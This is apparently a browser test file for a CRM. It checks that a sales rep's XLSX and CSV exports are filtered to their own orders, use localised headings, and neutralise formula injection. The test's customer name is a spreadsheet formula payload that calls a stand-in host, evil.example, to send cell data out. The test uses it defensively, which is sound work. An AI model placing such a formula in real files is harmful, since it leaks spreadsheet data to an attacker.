"""Issue 16 item 5 in Chromium: a sales rep filters the order list, downloads it as XLSX from
the list's Export control and gets their own matching orders only, headed in their language,
the formula-like customer name inert and the order date a date cell; then the customer list
as CSV. English at 1280 px and Simplified Chinese at 375 px. Screenshots go to
``test-artifacts/screenshots/export-*.png``."""

import csv
import io

import pytest
from openpyxl import load_workbook

from ordercrm.accounts.roles import Role
from ordercrm.sales import services as sales
from tests.browser.conftest import WALK
from tests.browser.test_order_flow import login, shot

pytestmark = WALK

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
CASES = [("en", {"width": 1280, "height": 900}), ("zh-hans", {"width": 375, "height": 740})]
HEADINGS = {"en": ("Number", "Customer", "Code"), "zh-hans": ("编号", "客户", "编码")}


@pytest.mark.parametrize(("language", "viewport"), CASES)
def test_a_rep_exports_the_filtered_order_list_and_their_customers(
    browser,
    live_server,
    company,
    admin,
    rep,
    make_user,
    make_customer,
    products,
    language,
    viewport,
):
    rep.language = language
    rep.save(update_fields=["language"])
    other = make_user(Role.SALES_REP, company, username="rep2")
    mine = make_customer(company, actor=admin, owner=rep, name=HOSTILE)
    theirs = make_customer(company, actor=admin, owner=other, name="Not yours Ltd")
    draft = sales.order_create(
        company=company, actor=rep, customer=mine, lines=[{"product": products[0], "quantity": 1}]
    )
    sales.order_cancel(
        order=sales.order_create(
            company=company,
            actor=rep,
            customer=mine,
            lines=[{"product": products[1], "quantity": 1}],
        ),
        actor=rep,
    )
    sales.order_create(
        company=company,
        actor=other,
        customer=theirs,
        lines=[{"product": products[0], "quantity": 1}],
    )
    number, customer, code = HEADINGS[language]

    context = browser.new_context(viewport=viewport, accept_downloads=True)
    page = login(context, live_server, rep.username)
    page.goto(f"{live_server.url}/orders/")
    page.select_option("#status", "draft")
    page.click("form[role=search] button[type=submit]")
    page.wait_for_url("**status=draft**")
    shot(page, f"export-orders-{language}-{viewport['width']}")
    with page.expect_download() as download:
        page.click(".export-links a:text-is('XLSX')")
    assert download.value.suggested_filename == "orders.xlsx"
    book = load_workbook(io.BytesIO(download.value.path().read_bytes()))
    header, *rows = list(book.active.iter_rows())
    assert [c.value for c in header[:2]] == [number, customer]
    assert [r[0].value for r in rows] == [draft.number]  # drafts only, and only the rep's
    assert (rows[0][1].value, rows[0][1].data_type, rows[0][1].quotePrefix) == (HOSTILE, "s", True)
    assert rows[0][3].is_date
    assert rows[0][3].value.date() == draft.order_date

    page.goto(f"{live_server.url}/customers/")
    with page.expect_download() as download:
        page.click(".export-links a:text-is('CSV')")
    with open(download.value.path(), encoding="utf-8-sig") as file:
        header, *rows = list(csv.reader(io.StringIO(file.read())))
    assert header[0] == code
    assert [row[1] for row in rows] == ["'" + HOSTILE]  # not rep2's customer
    context.close()
